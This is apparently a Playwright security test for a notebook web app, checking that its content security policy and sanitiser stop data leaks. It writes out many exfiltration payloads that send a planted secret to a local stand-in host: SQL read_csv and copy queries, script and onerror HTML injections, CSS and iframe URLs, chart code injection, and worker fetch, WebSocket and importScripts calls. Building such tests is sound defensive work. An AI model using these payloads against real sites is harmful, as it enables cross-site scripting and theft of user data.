// Loads data, then tries to carry it out of the page by every way there is, to a host that would take
// it and to the page's own. A control run shows that the test would see a leak.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { dropNotebook, loadFile } from "./page.ts";
import { BASE, serve } from "./serve.mjs";

const SECRET = "klient-tajny-4711";
const ORDERS = `customer_id,order_date,amount\n${SECRET},2025-01-01,10\nother,2025-02-01,20\n`;

let host: Server;
let own: Server;
const arrived: string[] = [];
const asked: string[] = [];

test.beforeAll(async () => {
  host = createServer((request, response) => {
    arrived.push(request.url ?? "/");
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/csv" });
    response.end("a\n1\n");
  });
  await new Promise<void>((resolve) => host.listen(0, "127.0.0.1", resolve));
  own = await serve(0, asked);
});
test.afterAll(() => {
  host.close();
  own.close();
});

const address = (server: Server) => `http://localhost:${(server.address() as AddressInfo).port}`;

async function open(page: Page) {
  await page.goto(address(own) + BASE);
  await loadFile(page, "orders.csv", ORDERS);
}

test("no SQL, text, chart or worker carries data out of the page", async ({ page }) => {
  await open(page);
  asked.length = 0;
  const there = address(host);
  const here = address(own) + BASE;
  const query = (id: string, sql: string) => `\`\`\`sql id=${id}\n${sql}\n\`\`\`\n`;
  const queries = [there, here].flatMap((to, i) => [
    query(`csv_${i}`, `select * from read_csv('${to}/' || (select max(customer_id) from orders))`),
    query(`name_${i}`, `select * from "${to}/${SECRET}.csv"`),
    query(`from_${i}`, `select * from '${to}/${SECRET}.csv'`),
    query(`text_${i}`, `select * from read_text('${to}/${SECRET}')`),
    query(`run_${i}`, `select * from query('from ''${to}/${SECRET}.csv''')`),
    query(`copy_${i}`, `copy orders to '${to}/${SECRET}.csv'`),
  ]);
  const rows = query("rows", `select customer_id, '${there}/${SECRET}' as link from orders`);
  const chart = (id: string, text: string) => `\`\`\`chart id=${id} from=rows\n${text}\n\`\`\`\n`;
  const hostile = `<!-- id: hostile -->
<img src="${there}/${SECRET}"> ![x](${there}/${SECRET}) <script>fetch("${there}/${SECRET}")</script>
<style>@import url("${there}/${SECRET}");</style> <iframe src="${there}/${SECRET}"></iframe>
<svg><image href="${there}/${SECRET}"/></svg> <div style="background:url(${there}/${SECRET})">x</div>
<a id="way" href="${there}/${SECRET}" ping="${there}/${SECRET}">a link</a>
<link rel="prefetch" href="${there}/${SECRET}"><object data="${there}/${SECRET}"></object>
<img src=x onerror="fetch('${there}/${SECRET}')"> {rows.link}
<form action="${there}/${SECRET}" name="documents"><input name="cookie" autofocus onfocus="fetch('${there}/${SECRET}')"><button formaction="${there}/${SECRET}">go</button></form>
[run](javascript:document.title='${SECRET}') [data](data:text/html,<script>1</script>) <details ontoggle="fetch('${there}/${SECRET}')" open>x</details>
`;
  await dropNotebook(
    page,
    "leak.md",
    `---\nrungs: 1\ntitle: Leak\n---\n${hostile}\n${queries.join("\n")}\n${rows}\n${[
      chart("image", `- image: { src: link }`),
      chart("href", `- dot: { x: customer_id, y: customer_id, href: link }`),
      chart("title", `- text: { x: customer_id, text: link, title: "<img src=${there}>" }`),
      chart("code", `- dot: { x: customer_id, y: { transform: "() => fetch('${there}')" } }`),
      chart("style", `- text: { x: customer_id, text: link, fill: "url(${there}/${SECRET})" }`),
    ].join("\n")}`,
  );
  await expect(page.getByRole("heading", { name: "Leak" })).toBeVisible();
  await expect(page.getByText("could not be computed")).toHaveCount(queries.length);
  const hostileCell = page.locator("#cell-hostile .prose");
  await expect(hostileCell.locator("details")).toHaveCount(1);
  const forbidden = "img, script, style, iframe, svg, object, link, form, input, button";
  await expect(hostileCell.locator(forbidden)).toHaveCount(0);
  await expect(hostileCell.locator("[style], [id], [name], [ping], [ontoggle]")).toHaveCount(0);
  const ways = await hostileCell
    .locator("a[href]")
    .evaluateAll((found) => found.map((way) => way.getAttribute("href")));
  expect(ways.filter((way) => !/^https?:/.test(way ?? ""))).toEqual([]);
  for (const id of ["image", "href", "title", "code", "style"]) {
    await expect(page.locator(`#cell-${id} svg[role=img]`)).toHaveCount(0);
    await expect(page.locator(`#cell-${id} [role=alert]`)).toHaveCount(1);
  }
  expect(page.context().pages()).toHaveLength(1);
  expect(await page.title()).not.toContain(SECRET);

  const workers = page.workers();
  expect(workers.length).toBeGreaterThan(0);
  for (const worker of workers) {
    await worker.evaluate(
      async ([to, mine, secret]) => {
        for (const url of [`${to}/worker-${secret}`, `${mine}worker-${secret}`]) {
          await fetch(url).catch(() => null);
          await fetch(url, { method: "POST", body: secret, mode: "no-cors" }).catch(() => null);
          try {
            const request = new XMLHttpRequest();
            request.open("GET", url, false);
            request.send();
          } catch {
            // Refused is what it should be.
          }
          try {
            new WebSocket(url.replace("http", "ws"));
          } catch {
            // The same.
          }
          try {
            new EventSource(url);
          } catch {
            // The same.
          }
          try {
            (globalThis as unknown as { importScripts(url: string): void }).importScripts(url);
          } catch {
            // The same.
          }
        }
        // The page's own scripts may be imported, but only code can say so, and no data becomes code.
        await import(/* @vite-ignore */ `${to}/worker-${secret}`).catch(() => null);
      },
      [there, here, SECRET] as const,
    );
  }
  await page.evaluate(
    async ([to, secret]) => {
      await fetch(`${to}/page-${secret}`).catch(() => null);
      navigator.sendBeacon(`${to}/beacon-${secret}`, secret);
      new Image().src = `${to}/image-${secret}`;
    },
    [there, SECRET] as const,
  );
  await page.waitForTimeout(1000);
  expect(arrived).toEqual([]);
  expect(asked.filter((url) => url.includes(SECRET))).toEqual([]);
});

test("control: without the policy the same host is reached, and the test sees it", async ({
  browser,
}) => {
  const context = await browser.newContext({ bypassCSP: true });
  const page = await context.newPage();
  await open(page);
  const before = arrived.length;
  await page.evaluate(
    ([to, secret]) => fetch(`${to}/control-${secret}`).then(({ status }) => status),
    [address(host), SECRET] as const,
  );
  expect(arrived.slice(before)).toEqual([`/control-${SECRET}`]);
  arrived.splice(before);
  await context.close();
});
